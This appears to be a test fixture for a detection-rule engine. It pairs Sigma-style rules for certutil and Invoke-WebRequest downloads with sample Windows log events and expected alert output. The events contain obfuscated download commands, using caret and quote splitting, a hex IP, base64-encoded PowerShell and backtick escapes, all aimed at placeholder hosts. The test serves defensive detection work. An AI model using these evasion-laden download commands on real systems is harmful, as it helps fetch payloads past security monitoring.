# rules with plain: yes see what command lines hide, also under a rule set with the same rule without;
# a line that hides nothing fires once, and what neither text has does not
--- rule plain.yml
title: Plain
id: 7b0c6d4e-0002-4000-8000-000000000001
logsource: {product: windows, category: process_creation}
gyoji: {plain: yes}
detection:
  tool: {CommandLine|contains|all: ['certutil -urlcache', 'http://']}
  known: {CommandLine|contains: 'updates.example'}
  condition: tool and not known
level: high
--- rule raw.yml
title: Raw
id: 7b0c6d4e-0002-4000-8000-000000000002
logsource: {product: windows, category: process_creation}
detection:
  tool: {CommandLine|contains|all: ['certutil -urlcache', 'http://']}
  known: {CommandLine|contains: 'updates.example'}
  condition: tool and not known
level: high
--- rule parent.yml
title: Parent
id: 7b0c6d4e-0002-4000-8000-000000000003
logsource: {product: windows, category: process_creation}
gyoji: {plain: true}
detection:
  parent: {ParentCommandLine|re: '(?i)cmd(\.exe)? /c certutil'}
  condition: parent
level: low
--- rule script.yml
title: Script
id: 7b0c6d4e-0002-4000-8000-000000000004
logsource: {product: windows, category: ps_script}
gyoji: {plain: yes}
detection:
  script: {ScriptBlockText|contains: 'Invoke-WebRequest'}
  condition: script
level: medium
--- input e.json
{"UtcTime":"2026-11-24 08:00:00","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"CommandLine":"cmd /c c^e^r^tutil -url\"\"cache -f http://0x7f000001/a.exe a.exe","ParentCommandLine":"explorer.exe"}
{"UtcTime":"2026-11-24 08:00:01","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"CommandLine":"certutil -urlcache -f http://a.example/a.exe a.exe","ParentCommandLine":"cm\"\"d /c c\"e\"rtutil -urlcache"}
{"UtcTime":"2026-11-24 08:00:02","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"CommandLine":"cmd /c certu^til -urlcache -f http://up^dates.example/a.exe a.exe"}
{"UtcTime":"2026-11-24 08:00:03","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"CommandLine":"certutil -hashfile a.exe"}
{"UtcTime":"2026-11-24 08:00:04","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"CommandLine":"powershell -e YwBlAHIAdAB1AHQAaQBsACAALQB1AHIAbABjAGEAYwBoAGUAIABoAHQAdABwADoALwAvAGIALgBlAHgAYQBtAHAAbABlAC8A"}
{"UtcTime":"2026-11-24 08:00:05","Channel":"Microsoft-Windows-PowerShell/Operational","EventID":4104,"ScriptBlockText":"& { I`nvoke-We`bRequest http://a.example/x }","ScriptBlockId":"1","MessageNumber":1,"MessageTotal":1}
{"UtcTime":"2026-11-24 08:00:06","ActionType":"ProcessCreated","DeviceName":"ws1","FileName":"cmd.exe","ProcessCommandLine":"cmd /c cert^util -url^cache http://c.example/ c"}
--- output csv
time,severity,level,rule_id,rule_name,entity_type,entity_value,file,record,tags,summary
2026-11-24T08:00:00Z,7,high,7b0c6d4e-0002-4000-8000-000000000001,Plain,,,e.json,1,,
2026-11-24T08:00:01Z,7,high,7b0c6d4e-0002-4000-8000-000000000001,Plain,,,e.json,2,,
2026-11-24T08:00:01Z,7,high,7b0c6d4e-0002-4000-8000-000000000002,Raw,,,e.json,2,,
2026-11-24T08:00:01Z,3,low,7b0c6d4e-0002-4000-8000-000000000003,Parent,,,e.json,2,,
2026-11-24T08:00:04Z,7,high,7b0c6d4e-0002-4000-8000-000000000001,Plain,,,e.json,5,,
2026-11-24T08:00:05Z,5,medium,7b0c6d4e-0002-4000-8000-000000000004,Script,,,e.json,6,,
2026-11-24T08:00:06Z,7,high,7b0c6d4e-0002-4000-8000-000000000001,Plain,_hostname,ws1,e.json,7,,
